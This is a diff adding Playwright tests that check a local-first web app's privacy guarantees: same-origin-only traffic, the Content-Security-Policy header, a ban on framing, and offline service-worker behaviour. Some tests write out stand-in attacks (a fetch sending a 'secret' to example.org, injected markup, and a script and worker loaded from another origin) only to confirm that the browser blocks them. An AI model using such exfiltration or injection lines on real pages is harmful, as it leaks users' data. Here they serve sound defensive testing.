@@ -1,0 +1,104 @@
+import { App, expect, test } from './fixtures.ts';
+import { startPlainHost } from './server.ts';
+import { SESSION_FOLDERS } from './session-folders.ts';
+
+test('a whole visit asks no other origin for anything', async ({ app, page, baseURL }) => {
+  const origins = new Set<string>();
+  page.context().on('request', (request) => origins.add(new URL(request.url()).origin));
+  const [own] = SESSION_FOLDERS;
+  if (own) await app.imports.importFolder(own.path);
+  for (const screen of ['Search', 'Timeline', 'Sessions', 'Memory', 'Storage', 'Settings'] as const) {
+    await app.shell.goTo(screen);
+  }
+  await app.shell.waitUntilOfflineReady();
+  await app.shell.reload();
+  expect([...origins]).toEqual([baseURL]);
+});
+
+test('the page says what it reached and what the policy allows', async ({ app }) => {
+  await app.shell.goTo('Storage');
+  await expect(app.storage.privacy()).toContainText('has reached its own address only');
+  await app.storage.privacy().getByText('The policy in force').click();
+  await expect(app.storage.privacy()).toContainText("default-src 'none'");
+});
+
+test('the browser refuses another origin, to the page and to the worker that holds the data', async ({
+  app,
+  page,
+  trespasses,
+}) => {
+  await app.shell.waitUntilReady();
+  const tryToSend = () => fetch('https://example.org/?q=secret').then(String, (error: Error) => error.name);
+  expect(await page.evaluate(tryToSend)).toBe('TypeError');
+  const [worker] = page.workers();
+  expect(await worker?.evaluate(tryToSend)).toBe('TypeError');
+  await expect
+    .poll(() => trespasses.policyViolations.filter((text) => text.includes('example.org')).length)
+    .toBeGreaterThanOrEqual(2);
+  trespasses.policyViolations.length = 0;
+  trespasses.foreignRequests.length = 0;
+});
+
+test('no text becomes script or markup', async ({ app, page, trespasses }) => {
+  await app.shell.waitUntilReady();
+  const attempts = await page.evaluate(() => {
+    const tryTo = (act: () => void) => {
+      try {
+        act();
+        return 'allowed';
+      } catch (error) {
+        return (error as Error).name;
+      }
+    };
+    return [
+      tryTo(() => {
+        document.createElement('div').innerHTML = '<img src=x>';
+      }),
+      tryTo(() => {
+        document.createElement('script').src = 'https://example.org/x.js';
+      }),
+      tryTo(() => new Worker('https://example.org/x.js')),
+    ];
+  });
+  expect(attempts).toEqual(['TypeError', 'TypeError', 'TypeError']);
+  await expect.poll(() => trespasses.policyViolations.length).toBeGreaterThanOrEqual(3);
+  trespasses.policyViolations.length = 0;
+});
+
+test('every response carries the policy, and nobody may frame the page', async ({ request }) => {
+  const response = await request.get('./');
+  const policy = response.headers()['content-security-policy'];
+  expect(policy).toContain("connect-src 'self'");
+  expect(policy).toContain("frame-ancestors 'none'");
+  expect(await response.text()).toMatch(/<head>\s*<meta http-equiv="Content-Security-Policy"/);
+});
+
+test('in some folder of a plain static host everything works, and the policy comes with the service worker', async ({
+  page,
+}) => {
+  const { server, url } = await startPlainHost('/some/sub/path/');
+  const app = new App(page);
+  await page.goto(url);
+  await app.shell.waitUntilReady();
+  const [own] = SESSION_FOLDERS;
+  if (own) await app.imports.importFolder(own.path);
+  await app.shell.waitUntilOfflineReady();
+  server.closeAllConnections();
+  await new Promise((resolve) => server.close(resolve));
+  const response = await page.reload();
+  expect(response?.fromServiceWorker()).toBe(true);
+  expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
+  await app.shell.waitUntilReady();
+  await app.search.find('perigean');
+  await expect(app.search.hits).toHaveCount(1);
+});
+
+test('the app can be installed', async ({ app, page }) => {
+  await app.shell.waitUntilReady();
+  const session = await page.context().newCDPSession(page);
+  const { errors } = await session.send('Page.getAppManifest');
+  expect(errors).toEqual([]);
+  const { installabilityErrors } = await session.send('Page.getInstallabilityErrors');
+  // A test's profile is a private window, which is the only thing that stands against it.
+  expect(installabilityErrors.map(({ errorId }) => errorId).filter((id) => id !== 'in-incognito')).toEqual([]);
+});
